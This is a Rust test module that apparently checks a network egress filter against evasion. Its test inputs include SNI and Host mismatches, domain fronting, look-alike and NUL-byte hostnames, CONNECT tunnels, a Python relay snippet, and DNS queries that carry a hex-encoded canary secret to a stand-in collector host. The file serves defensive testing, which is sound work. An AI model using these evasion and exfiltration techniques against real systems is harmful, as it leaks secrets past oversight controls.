//! Names that disagree, look alike or hide something; tunnels, and questions to name servers.

use serde_json::{Value, json};

use super::Expect::{AfterOne, Kernel, Logged, NoName, Told, Works};
use super::{Round, Row, Variant, dns, get, h2, h2_get, plain, row, tls, tls_with, variant};
use crate::attack::{CANARY_IS_KNOWN, Outside, has_v6};
use crate::world::{CANARY, Person, World};

pub fn run(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let lan = super::split(outside.v4());
    let v6 = has_v6().then(|| outside.v6().ip().to_string());
    let rows = vec![
        trailing_dots(&lan),
        user_information(&lan),
        control_bytes(),
        look_alikes(),
        international(),
        other_server_names(),
        fronting(),
        encrypted_hello(),
        tunnels(&lan),
        several_targets(),
        forward_proxies(&lan),
        questions(&lan),
        other_servers(&lan, v6.as_deref()),
    ];
    Round::new(&world, &outside, "names", person).judge(&rows);
}

/// A request to `notes.example` in its own name that names its target like this.
fn said(text: &str) -> Value {
    tls("notes.example", "notes.example", get("/sink/{mark}", &[text]))
}

fn no_name(name: &str) -> Variant {
    variant(format!("asked: {name}"), dns(name, 1), NoName("name_not_allowed", name.trim_end_matches('.').to_owned()))
}

fn trailing_dots(lan: &(String, u16)) -> Row {
    let mut variants: Vec<Variant> = ["collector.example.", "127.0.0.1.", "2130706433.", "api.anthropic.com."]
        .iter()
        .map(|name| variant(format!("said: {name}"), said(name), Told("name_mismatch")))
        .collect();
    variants.extend([
        variant("said: two dots", said("notes.example.."), Told("host_invalid")),
        variant("said: a dot alone", said("."), Told("host_invalid")),
        variant("said: a dot before", said(".notes.example"), Told("host_invalid")),
        variant(
            "said: a dot at an address",
            plain(&lan.0, lan.1, get("/{mark}", &["notes.example."])),
            Told("address_not_allowed"),
        ),
        variant(
            "a secret behind a dot",
            tls("notes.example", "notes.example", get(&format!("/sink/{{mark}}?q={CANARY}"), &["notes.example."])),
            Told("secret_known"),
        ),
        no_name("collector.example"),
        variant("one dot is the same host", said("notes.example."), Works),
        variant("one dot before the port is the same host", said("notes.example.:443"), Works),
    ]);
    row("B8 a trailing dot changes neither yes nor no", variants)
}

fn user_information(lan: &(String, u16)) -> Row {
    let mut variants: Vec<Variant> = [
        "notes.example@collector.example",
        "notes.example:443@collector.example",
        "collector.example@notes.example",
        "user:password@notes.example",
        "@notes.example",
        "notes.example%40collector.example",
        "collector.example#@notes.example",
        "collector.example\\@notes.example",
        "notes.example,collector.example",
        "notes.example collector.example",
    ]
    .iter()
    .map(|text| variant(format!("said: {text}"), said(text), Told("host_invalid")))
    .collect();
    for target in ["http://notes.example@collector.example/{mark}", "http://collector.example@plain.example/{mark}"] {
        variants.push(variant(
            format!("as a target: {}", target.replace("{mark}", "")),
            plain("plain.example", 80, get(target, &["plain.example"])),
            Told("host_invalid"),
        ));
    }
    for authority in ["notes.example@collector.example", "collector.example@notes.example", "a:b@notes.example"] {
        variants.push(variant(
            format!("over HTTP/2: {authority}"),
            h2_get("notes.example", authority, "/sink/{mark}", &[]),
            Told("host_invalid"),
        ));
    }
    variants.push(variant(
        "at an address",
        plain(&lan.0, lan.1, get("http://notes.example@collector.example/{mark}", &["notes.example"])),
        Told("address_not_allowed"),
    ));
    row("B9 user information in a host is refused", variants)
}

fn control_bytes() -> Row {
    let connect = |name: &str| json!([{"hex": "050100"}, {"hex": format!("05010003{:02x}", name.len())}, name, {"hex": "01bb"}, "{mark}"]);
    let swapped = |to: &str| json!({"sni": "notesxexample.org", "swap": ["notesxexample.org", to]});
    let tab = |text: &str| {
        tls(
            "notes.example",
            "notes.example",
            json!([format!("GET /sink/{{mark}} HTTP/1.1\r\nHost: {text}\r\nConnection: close\r\n\r\n")]),
        )
    };
    row(
        "B10 a NUL or another byte that ends a name elsewhere is no part of a name",
        vec![
            variant(
                "SOCKS5 with a NUL in its name",
                plain("notes.example", 80, connect("collector.example\0.notes.example")),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "SOCKS5 in good form",
                plain("notes.example", 80, connect("notes.example")),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "SOCKS4a with a NUL in its name",
                plain(
                    "notes.example",
                    80,
                    json!([{"hex": "040101bb0000000100"}, "notes.example\0collector.example\0{mark}"]),
                ),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a NUL in a label asked of DNS",
                dns("collector\0.notes.example", 1),
                NoName("name_not_allowed", "collector".into()),
            ),
            variant(
                "a NUL behind the name asked of DNS",
                dns("notes.example\0.collector.example", 1),
                NoName("name_not_allowed", "collector.example".into()),
            ),
            variant(
                "a dot within a label asked of DNS",
                json!({"do": "dns", "raw": [{"hex": "12340100000100000000000005"}, "a.wil", {"hex": "04"}, "d.ex", {"hex": "0000010001"}]}),
                NoName("name_not_allowed", "".into()),
            ),
            variant(
                "a NUL in Host",
                tab("notes.example\0.collector.example"),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a NUL in Host over HTTP/2",
                h2_get("notes.example", "notes.example", "/sink/{mark}", &[("host", "notes.example\0x")]),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a NUL in :authority",
                h2_get("notes.example", "notes.example\0x", "/sink/{mark}", &[]),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant("a tab in Host", tab("notes.example\t.collector.example"), Told("host_invalid")),
            variant("a byte beyond ASCII in Host", tab("notes.ex\u{e4}mple"), Told("host_invalid")),
            variant(
                "a NUL in the server name",
                tls_with("notes.example", swapped("notes\0example.org"), get("/{mark}", &["notes.example"])),
                Logged("tls_refused", "notes.example".into()),
            ),
            variant(
                "a blank in the server name",
                tls_with("notes.example", swapped("notes example.org"), get("/{mark}", &["notes.example"])),
                Logged("tls_refused", "notes.example".into()),
            ),
        ],
    )
}

fn look_alikes() -> Row {
    let mut variants: Vec<Variant> = [
        "notnotes.example",
        "notes.example.collector.example",
        "a.notes.example",
        "example",
        "notes-example",
        "wild.example",
        "xwild.example",
        "a.xwild.example",
        "a.wild.example.collector.example",
        "notes.examplex",
        "otes.example",
    ]
    .iter()
    .map(|name| no_name(name))
    .collect();
    for name in ["notnotes.example", "notes.example.collector.example", "example", "notes.exampl"] {
        variants.push(variant(format!("said: {name}"), said(name), Told("name_mismatch")));
        variants.push(variant(
            format!("as the server name: {name}"),
            tls("notes.example", name, get("/{mark}", &[name])),
            Told("name_mismatch"),
        ));
    }
    for name in ["b.wild.example", "wild.example", "a.a.wild.example", "a.wild.example.x"] {
        variants.push(variant(
            format!("said below the zone: {name}"),
            tls("a.wild.example", "a.wild.example", get("/{mark}", &[name])),
            Told("name_mismatch"),
        ));
    }
    variants.push(variant(
        "a name below the zone",
        tls("a.wild.example", "a.wild.example", get("/sink/{mark}", &["A.Wild.Example"])),
        Works,
    ));
    row("B11 names that contain an allowed name are not it", variants)
}

fn international() -> Row {
    let mut variants: Vec<Variant> = [
        ("Cyrillic letters", json!({"utf8": "n\u{43e}tes.example"}), "host_invalid"),
        ("full-width letters", json!({"utf8": "\u{ff4e}otes.example"}), "host_invalid"),
        ("an ideographic full stop", json!({"utf8": "notes\u{3002}example"}), "host_invalid"),
        ("a soft hyphen", json!({"utf8": "no\u{ad}tes.example"}), "host_invalid"),
        ("percent-encoded letters", json!("%6eotes.example"), "host_invalid"),
        ("a percent-encoded dot", json!("notes%2eexample"), "host_invalid"),
        ("punycode of a look-alike", json!("xn--ntes-5cd.example"), "name_mismatch"),
        ("broken punycode", json!("xn--\u{e4}.example"), "host_invalid"),
        ("an underscore", json!("no_tes.example"), "host_invalid"),
        ("a hyphen at the end of a label", json!("notes-.example"), "host_invalid"),
        ("a label of 64 letters", json!(format!("{}.example", "a".repeat(64))), "host_invalid"),
        ("a name of 300 letters", json!("a.".repeat(150) + "example"), "host_invalid"),
    ]
    .into_iter()
    .map(|(what, name, code): (&str, Value, &'static str)| {
        let request = json!([["GET /sink/{mark} HTTP/1.1\r\nHost: ", name, "\r\nConnection: close\r\n\r\n"]]);
        variant(format!("said: {what}"), tls("notes.example", "notes.example", request), Told(code))
    })
    .collect();
    for name in ["xn--ntes-5cd.example", "n\u{f6}tes.example", "no_tes.example", "notes%2eexample"] {
        let shown = name.split(['\u{f6}', '%']).next().unwrap().to_owned();
        variants.push(variant(format!("asked: {name}"), dns(name, 1), NoName("name_not_allowed", shown)));
    }
    variants.push(variant(
        "capital letters are the same host",
        tls("NOTES.example", "NoTeS.eXample", get("/sink/{mark}", &["nOTES.EXAMPLE"])),
        Works,
    ));
    row("B12 a host in another alphabet, coding or case is compared in one form", variants)
}

fn other_server_names() -> Row {
    let mut variants = Vec::new();
    for name in ["collector.example", "api.openai.com", "a.notes.example", "plain.example"] {
        variants.push(variant(
            format!("server name {name}, the right Host"),
            tls("notes.example", name, get("/{mark}", &["notes.example"])),
            Told("name_mismatch"),
        ));
        variants.push(variant(
            format!("server name and Host {name}"),
            tls("notes.example", name, get("/{mark}", &[name])),
            Told("name_mismatch"),
        ));
        variants.push(variant(
            format!("no server name, Host {name}"),
            tls_with("notes.example", json!({"sni": null}), get("/{mark}", &[name])),
            Told("name_mismatch"),
        ));
        variants.push(variant(format!("server name {name} over HTTP/2"), tls_with("notes.example", json!({"sni": name, "alpn": ["h2"]}), json!([{"h2": [
            ["preface"], ["headers", 1, 5, super::fields("notes.example", "/{mark}", &[])], ["goaway", 0, 0, {"hex": "0000000000000000"}]
        ]}])), Told("name_mismatch")));
    }
    variants.push(variant(
        "no server name at all is the name that was asked",
        tls_with("notes.example", json!({"sni": null}), get("/sink/{mark}", &["notes.example"])),
        Works,
    ));
    row("B13 a connection to an allowed host in another's name is refused", variants)
}

fn fronting() -> Row {
    let mut variants = Vec::new();
    for name in ["collector.example", "api.openai.com", "notes.example:8443", "a.notes.example"] {
        variants.push(variant(format!("Host: {name}"), said(name), Told("name_mismatch")));
        variants.push(variant(
            format!(":authority {name}"),
            h2_get("notes.example", name, "/sink/{mark}", &[]),
            Told("name_mismatch"),
        ));
        variants.push(variant(
            format!("Host: {name} beside :authority"),
            h2_get("notes.example", "notes.example", "/sink/{mark}", &[("host", name)]),
            Told("name_mismatch"),
        ));
        variants.push(variant(
            format!("https://{name}/ as the target"),
            tls("notes.example", "notes.example", get(&format!("https://{name}/{{mark}}"), &["notes.example"])),
            Told("name_mismatch"),
        ));
    }
    let alive = |target: &str, host: &str| format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let then = |host: &str| json!([alive("/sink/first", "notes.example"), {"until": "\r\n\r\n"}, format!("GET /sink/{{mark}} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")]);
    for host in ["collector.example", "api.openai.com"] {
        variants.push(variant(
            format!("the second request to {host}"),
            tls("notes.example", "notes.example", then(host)),
            AfterOne("name_mismatch"),
        ));
    }
    for field in ["X-Forwarded-Host", "X-Host", "Forwarded"] {
        // A field that some servers believe names nobody here: it goes to the host that was judged.
        let request = json!([format!(
            "GET /sink/{{mark}} HTTP/1.1\r\nHost: notes.example\r\n{field}: collector.example\r\nConnection: close\r\n\r\n"
        )]);
        variants.push(variant(
            format!("{field} changes nothing"),
            tls("notes.example", "notes.example", request),
            Works,
        ));
    }
    row("B15 a request to another host than the connection's is refused", variants)
}

fn encrypted_hello() -> Row {
    let asked = |name: &str, kind: u16| json!({"do": "dns", "name": name, "type": kind});
    // An outer hello with the extension of ECH (0xfe0d) in place of a padding one is a hello with an extension that is
    // not known: the outer name counts.
    let outer = |name: &str, host: &str| tls("notes.example", name, get("/{mark}", &[host]));
    row(
        "B17 no key for an encrypted ClientHello is given out, and the outer name is what counts",
        vec![
            variant(
                "an HTTPS record is not answered",
                json!({"do": "py", "run": no_record("notes.example", 65)}),
                Kernel(&["0 0"]),
            ),
            variant(
                "an SVCB record is not answered",
                json!({"do": "py", "run": no_record("notes.example", 64)}),
                Kernel(&["0 0"]),
            ),
            variant(
                "an HTTPS record below a wildcard is not answered",
                dns("_8443._https.a.wild.example", 65),
                NoName("name_not_allowed", "_8443._https.a.wild.example".into()),
            ),
            variant(
                "an HTTPS record of another name",
                asked("collector.example", 65),
                NoName("name_not_allowed", "\"type\":\"HTTPS\"".into()),
            ),
            variant(
                "a public name as the outer one",
                outer("cloudflare-ech.com", "notes.example"),
                Told("name_mismatch"),
            ),
            variant(
                "a public name as the outer one, another host within",
                outer("cloudflare-ech.com", "collector.example"),
                Told("name_mismatch"),
            ),
            variant(
                "an allowed name as the outer one, another host within",
                outer("notes.example", "collector.example"),
                Told("name_mismatch"),
            ),
        ],
    )
}

/// Asks and prints the answer's code and its number of records.
fn no_record(name: &str, kind: u16) -> String {
    format!(
        "q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in '{name}'.split('.')) + b'\\0' + struct.pack('>HH', {kind}, 1)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4); s.sendto(q, ('198.18.0.1', 53)); a = s.recv(4096)\nprint(a[3] & 15, a[7])\n"
    )
}

fn tunnels(lan: &(String, u16)) -> Row {
    let connect =
        |to: &str| json!([format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\nConnection: close\r\n\r\n{{mark}}")]);
    let relayed = format!(
        "/usr/bin/python3 -c \"import socket, threading\nl = socket.create_server(('127.0.0.1', 0))\ndef relay():\n c, _ = l.accept(); c.recv(4096)\n u = socket.create_connection(('{}', {}), 5); c.sendall(b'HTTP/1.1 200 ok\\r\\n\\r\\n')\n u.sendall(c.recv(4096)); c.sendall(u.recv(65536)); c.close()\nthreading.Thread(target=relay, daemon=True).start()\ns = socket.create_connection(l.getsockname()); s.sendall(b'CONNECT notes.example:80 HTTP/1.1\\r\\n\\r\\n'); s.recv(4096)\ns.sendall(b'GET /{{mark}} HTTP/1.1\\r\\nHost: notes.example\\r\\nConnection: close\\r\\n\\r\\n'); print(s.recv(65536).decode())\"",
        lan.0, lan.1
    );
    row(
        "B18 a tunnel is not opened, not within another one, and a relay inside is judged where it ends",
        vec![
            variant(
                "CONNECT to itself",
                tls("notes.example", "notes.example", connect("notes.example:443")),
                Told("protocol_refused"),
            ),
            variant(
                "CONNECT to another host",
                tls("notes.example", "notes.example", connect("collector.example:443")),
                Told("name_mismatch"),
            ),
            variant(
                "CONNECT in plain text",
                plain("plain.example", 80, connect("plain.example:80")),
                Told("protocol_refused"),
            ),
            variant(
                "CONNECT in plain text to another host",
                plain("plain.example", 80, connect("collector.example:443")),
                Told("name_mismatch"),
            ),
            variant(
                "CONNECT to an address",
                plain(&lan.0, lan.1, connect("notes.example:443")),
                Told("address_not_allowed"),
            ),
            variant(
                "CONNECT over HTTP/2",
                h2(
                    "notes.example",
                    json!([[
                        "headers",
                        1,
                        4,
                        [[":method", "CONNECT"], [":authority", "notes.example:443"], ["x-mark", "{mark}"]]
                    ]]),
                ),
                Told("protocol_refused"),
            ),
            variant(
                "CONNECT over HTTP/2 to another host",
                h2(
                    "notes.example",
                    json!([[
                        "headers",
                        1,
                        4,
                        [[":method", "CONNECT"], [":authority", "collector.example:443"], ["x-mark", "{mark}"]]
                    ]]),
                ),
                Told("name_mismatch"),
            ),
            variant(
                "CONNECT behind a request",
                tls(
                    "notes.example",
                    "notes.example",
                    json!(["GET /sink/first HTTP/1.1\r\nHost: notes.example\r\n\r\n", {"until": "\r\n\r\n"}, "CONNECT notes.example:443 HTTP/1.1\r\nHost: notes.example:443\r\nConnection: close\r\n\r\n{mark}"]),
                ),
                AfterOne("protocol_refused"),
            ),
            variant(
                "a relay of the attacker's inside",
                json!({"do": "sh", "run": relayed}),
                Told("address_not_allowed"),
            ),
            variant(
                "HAProxy's line about whom it is for",
                plain(
                    "plain.example",
                    80,
                    json!([
                        "PROXY TCP4 127.0.0.1 127.0.0.1 1 443\r\nGET /{mark} HTTP/1.1\r\nHost: plain.example\r\n\r\n"
                    ]),
                ),
                Logged("protocol_refused", "plain.example".into()),
            ),
            variant(
                "HAProxy's second form",
                plain(
                    "plain.example",
                    80,
                    json!([{"hex": "0d0a0d0a000d0a515549540a20000000"}, "GET /{mark} HTTP/1.1\r\nHost: plain.example\r\n\r\n"]),
                ),
                Logged("protocol_refused", "plain.example".into()),
            ),
        ],
    )
}

fn several_targets() -> Row {
    let notes = |text: &str| tls("notes.example", "notes.example", json!([text]));
    let end = "Connection: close\r\n\r\n";
    row(
        "B19 one request has one target",
        vec![
            variant(
                "two hosts, the right one first",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost: notes.example\r\nHost: collector.example\r\n{end}")),
                Told("name_mismatch"),
            ),
            variant(
                "two hosts, the right one last",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost: collector.example\r\nHost: notes.example\r\n{end}")),
                Told("name_mismatch"),
            ),
            variant(
                "the same host twice",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost: notes.example\r\nHost: notes.example\r\n{end}")),
                Told("host_invalid"),
            ),
            variant("no host", notes(&format!("GET /{{mark}} HTTP/1.1\r\n{end}")), Told("host_invalid")),
            variant("an empty host", notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost:\r\n{end}")), Told("host_invalid")),
            variant(
                "a host of blanks",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost:   \r\n{end}")),
                Told("host_invalid"),
            ),
            variant(
                "an absolute target of another host",
                notes(&format!("GET https://collector.example/{{mark}} HTTP/1.1\r\nHost: notes.example\r\n{end}")),
                Told("name_mismatch"),
            ),
            variant(
                "an absolute target beside another Host",
                notes(&format!("GET https://notes.example/{{mark}} HTTP/1.1\r\nHost: collector.example\r\n{end}")),
                Told("name_mismatch"),
            ),
            variant(
                "a target without a scheme",
                notes(&format!("GET //collector.example/{{mark}} HTTP/1.1\r\nHost: collector.example\r\n{end}")),
                Told("name_mismatch"),
            ),
            variant(
                "a Host with a blank before its colon",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost : collector.example\r\nHost: notes.example\r\n{end}")),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "a folded Host",
                notes(&format!("GET /{{mark}} HTTP/1.1\r\nHost: notes.example\r\n collector.example\r\n{end}")),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "two :authority fields",
                h2(
                    "notes.example",
                    json!([[
                        "headers",
                        1,
                        5,
                        [
                            [":method", "GET"],
                            [":scheme", "https"],
                            [":authority", "notes.example"],
                            [":authority", "collector.example"],
                            [":path", "/{mark}"]
                        ]
                    ]]),
                ),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "two :path fields",
                h2(
                    "notes.example",
                    json!([[
                        "headers",
                        1,
                        5,
                        [
                            [":method", "GET"],
                            [":scheme", "https"],
                            [":authority", "notes.example"],
                            [":path", "/sink/a"],
                            [":path", "/{mark}"]
                        ]
                    ]]),
                ),
                Logged("protocol_refused", "notes.example".into()),
            ),
            variant(
                "neither :authority nor Host",
                h2(
                    "notes.example",
                    json!([["headers", 1, 5, [[":method", "GET"], [":scheme", "https"], [":path", "/{mark}"]]]]),
                ),
                Told("host_invalid"),
            ),
            variant(
                "an absolute target of the right host",
                notes(&format!("GET https://notes.example/sink/{{mark}} HTTP/1.1\r\nHost: notes.example\r\n{end}")),
                Works,
            ),
        ],
    )
}

fn forward_proxies(lan: &(String, u16)) -> Row {
    row(
        "B20 what speaks to a proxy is judged as what speaks to a server",
        vec![
            variant(
                "absolute form to an allowed host on its plain port",
                plain("notes.example", 80, get("http://collector.example/{mark}", &["collector.example"])),
                Told("name_mismatch"),
            ),
            variant(
                "absolute form with a secret",
                plain(
                    "plain.example",
                    80,
                    get(&format!("http://plain.example/sink/{{mark}}?q={CANARY}"), &["plain.example"]),
                ),
                Told("secret_known"),
            ),
            variant(
                "absolute form of https in plain text",
                plain("notes.example", 80, get("https://api.anthropic.com/{mark}", &["api.anthropic.com"])),
                Told("name_mismatch"),
            ),
            variant(
                "absolute form to an address",
                plain(&lan.0, lan.1, get("http://notes.example/{mark}", &["notes.example"])),
                Told("address_not_allowed"),
            ),
            variant(
                "absolute form of ftp",
                plain("plain.example", 80, get("ftp://collector.example/{mark}", &["plain.example"])),
                Told("name_mismatch"),
            ),
            variant(
                "a proxy's port of an allowed host",
                plain("notes.example", 3128, get("http://notes.example/{mark}", &["notes.example"])),
                Told("port_not_allowed"),
            ),
            variant(
                "Proxy-Authorization goes no further",
                plain(
                    "plain.example",
                    80,
                    json!([
                        "GET http://plain.example/sink/{mark} HTTP/1.1\r\nHost: plain.example\r\nProxy-Authorization: Basic eDp5\r\nConnection: close\r\n\r\n"
                    ]),
                ),
                Works,
            ),
        ],
    )
}

/// The types that have carried data out, and their numbers.
pub const KINDS: [(&str, u16); 11] = [
    ("A", 1),
    ("NS", 2),
    ("CNAME", 5),
    ("NULL", 10),
    ("PTR", 12),
    ("MX", 15),
    ("TXT", 16),
    ("AAAA", 28),
    ("SRV", 33),
    ("HTTPS", 65),
    ("ANY", 255),
];

fn questions(lan: &(String, u16)) -> Row {
    let hex: String = CANARY.bytes().map(|b| format!("{b:02x}")).collect();
    let (front, back) = hex.split_at(40);
    let mut variants = Vec::new();
    for (kind, number) in KINDS {
        let shown = format!("{{mark}}.{}.collector.example", kind.to_lowercase());
        variants.push(variant(
            format!("{kind} of a name that no route has"),
            dns(&shown, number),
            NoName("name_not_allowed", format!("{}.collector.example", kind.to_lowercase())),
        ));
        let name = format!("{front}.{back}.{}.wild.example", kind.to_lowercase());
        variants.push(variant(
            format!("{kind} of a name with a secret in hex below a wildcard"),
            dns(&name, number),
            NoName("secret_known", format!("\"type\":\"{kind}\"")),
        ));
    }
    let chaos = json!({"do": "dns", "raw": [{"hex": "1234010000010000000000000776657273696f6e0462696e640000100003"}]});
    variants.push(variant(
        "a name of the same at another server",
        json!({"do": "dns", "name": "{mark}.collector.example", "server": lan.0}),
        NoName("name_not_allowed", "mark-b28-22.collector.example".into()),
    ));
    variants.push(variant("class CHAOS", chaos, Logged("dns_query_refused", "version.bind".into())));
    variants.push(variant(
        "no question",
        json!({"do": "dns", "raw": CANARY}),
        Logged("dns_query_refused", "dns_query".into()),
    ));
    variants.push(variant("an update", json!({"do": "dns", "raw": [{"hex": "1234280000010000000000000577"}, "orld", {"hex": "07"}, "example", {"hex": "0000060001"}]}), Logged("dns_query_refused", "dns_query".into())));
    variants.push(variant("two questions", json!({"do": "dns", "raw": [{"hex": "123401000002000000000000"}, {"hex": "05"}, "notes", {"hex": "07"}, "example", {"hex": "0000010001"}, {"hex": "05"}, "notes", {"hex": "07"}, "example", {"hex": "0000010001"}]}), Logged("dns_query_refused", "not one question".into())));
    row("B28 no question carries anything out, whatever its type and its form", variants)
}

fn other_servers(lan: &(String, u16), v6: Option<&str>) -> Row {
    let mut servers = vec!["8.8.8.8", "169.254.169.253", "1.1.1.1"];
    servers.extend(v6.map(|_| "2001:4860:4860::8888"));
    let mut variants = Vec::new();
    for (number, server) in servers.iter().enumerate() {
        for over in ["udp", "tcp"] {
            let name = format!("{over}{number}.other.example");
            variants.push(variant(
                format!("{server} by {over}"),
                json!({"do": "dns", "name": name, "server": server, "over": over}),
                NoName("name_not_allowed", name.clone()),
            ));
        }
    }
    for (what, port) in [("mDNS", 5353), ("LLMNR", 5355), ("NetBIOS", 137), ("another port", 5300)] {
        variants.push(variant(
            format!("{what} by a datagram"),
            json!({"do": "dns", "name": "{mark}.collector.example", "server": lan.0, "port": port}),
            Kernel(&["ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EPERM", "EACCES"]),
        ));
    }
    variants.push(variant(
        "mDNS to its group",
        json!({"do": "dns", "name": "{mark}.local", "server": "224.0.0.251", "port": 5353}),
        Kernel(&["ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EPERM", "EACCES", "EINVAL"]),
    ));
    variants.push(variant(
        "DNS over TLS to an address",
        tls_853(&lan.0),
        Logged("address_not_allowed", "\"port\":853".into()),
    ));
    variants.push(variant(
        "DNS over TLS to an allowed host",
        tls_853("notes.example"),
        Logged("port_not_allowed", "\"port\":853".into()),
    ));
    variants.push(variant(
        "DNS over HTTPS at an address",
        tls("8.8.4.4", "dns.google", get("/dns-query?dns={mark}", &["dns.google"])),
        Told("address_not_allowed"),
    ));
    variants.push(variant(
        "DNS over HTTPS by its name",
        dns("dns.google", 1),
        NoName("name_not_allowed", "dns.google".into()),
    ));
    variants.push(variant(
        "DNS over HTTPS at an allowed host is a request like any other",
        tls("notes.example", "notes.example", get("/sink/dns-query?dns={mark}", &["notes.example"])),
        Works,
    ));
    variants.push(variant("a question of 5000 octets over TCP", json!({"do": "tcp", "to": "198.18.0.1", "port": 53, "send": [{"hex": "1388"}, {"times": ["x", 5000]}, "{mark}"], "quiet": 2000}), Logged("dns_query_refused", "".into())));
    row("B29 DNS by other ways is captured, or leads nowhere", variants)
}

fn tls_853(to: &str) -> Value {
    json!({"do": "tcp", "to": to, "port": 853, "tls": {"sni": to}, "send": ["{mark}"], "quiet": 600})
}
